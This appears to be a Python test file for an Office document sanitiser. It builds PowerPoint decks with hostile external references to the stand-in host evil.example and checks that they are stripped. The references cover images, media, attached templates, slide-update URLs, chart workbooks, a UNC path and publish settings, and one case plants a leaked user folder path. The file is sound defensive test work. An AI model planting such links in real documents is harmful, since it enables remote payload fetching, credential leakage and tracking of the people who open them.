"""Decks that fetch something from outside, or hand on what lies behind a chart."""

from __future__ import annotations

from tests.collect import decks
from tests.collect.hostile.case import SLIDE, case
from tests.collect.surgery import drawn, packed, related, swapped, unpacked


@case("picture-outside", removed=("external", "picture"), gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, "ppt/slides/slide3.xml", "rIdE", "image", "http://evil.example/x.png", external=True)
    swapped(deck, "ppt/slides/slide3.xml", "r:embed=", 'r:link="rIdE" x=')
    return packed(deck)


@case("picture-outside-beside-own", removed="external", gone=(b"evil.example", b"r:link"))
def _():
    deck = decks.parts()
    related(deck, "ppt/slides/slide3.xml", "rIdE", "image", "\\\\evil.example\\x.png", external=True)
    swapped(deck, "ppt/slides/slide3.xml", "r:embed=", 'r:link="rIdE" r:embed=')
    return packed(deck)


@case("picture-outside-as-own", removed=("external", "picture"), gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, "ppt/slides/slide3.xml", "rIdE", "image", "https://evil.example/x.png", external=True)
    deck["ppt/slides/slide3.xml"] = deck["ppt/slides/slide3.xml"].replace(b'r:embed="rId2"', b'r:embed="rIdE"')
    return packed(deck)


@case("video-outside", removed=("external",), gone=(b"evil.example",))
def _():
    return decks.with_media(b"", external="http://evil.example/x.mp4")


@case("sound-outside-hover", removed=("external",), gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, SLIDE, "rIdS", "audio", "file://evil.example/x.wav", external=True)
    drawn(
        deck,
        2,
        decks.shape(
            90,
            "Sound",
            about='<a:hlinkClick r:id="" action="ppaction://noaction"><a:snd r:embed="rIdS" name="x"/></a:hlinkClick>',
        ),
    )
    return packed(deck)


@case("template-outside", removed="external", gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(
        deck,
        "ppt/slideMasters/slideMaster1.xml",
        "rIdT",
        "attachedTemplate",
        "http://evil.example/x.potm",
        external=True,
    )
    related(deck, "", "rIdT", "attachedTemplate", "http://evil.example/x.potm", external=True)
    return packed(deck)


@case("layout-outside", refused="broken-deck")
def _():
    deck = decks.parts()
    name = "ppt/slides/_rels/slide2.xml.rels"
    deck[name] = deck[name].replace(
        b'Target="../slideLayouts/slideLayout2.xml"', b'Target="http://evil.example/x" TargetMode="External"'
    )
    return packed(deck)


@case("slide-update", removed="external", gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, SLIDE, "rIdU", "slideUpdateUrl", "http://evil.example/slides", external=True)
    return packed(deck)


@case("workbook-outside", removed="external", gone=(b"evil.example", b"externalData"))
def _():
    deck = unpacked(decks.charted())
    (name,) = (name for name in deck if name.startswith("ppt/charts/_rels/"))
    start = deck[name].index(b'Target="')
    end = deck[name].index(b'"', start + 8) + 1
    deck[name] = deck[name][:start] + b'Target="file://evil.example/b.xlsx" TargetMode="External"' + deck[name][end:]
    return packed(deck)


@case("workbook-behind-chart", removed="workbook", gone=(b"externalData",))
def _():
    return decks.charted()


@case("chart-names-a-folder", removed="path", gone=(b"ada.north",))
def _():
    deck = unpacked(decks.charted())
    (name,) = (name for name in deck if name.startswith("ppt/charts/chart"))
    swapped(deck, name, "Sheet1!$A$2:$A$4", "'C:\\Users\\ada.north\\[b.xlsx]Sheet1'!$A$2:$A$4")
    return packed(deck)


@case("publishing-outside", removed=("publish-settings", "link"), gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, "ppt/presProps.xml", "rIdH", "hyperlink", "file://evil.example/web.htm", external=True)
    swapped(deck, "ppt/presProps.xml", "<p:extLst>", '<p:htmlPubPr r:id="rIdH"><p:sldAll/></p:htmlPubPr><p:extLst>')
    return packed(deck)
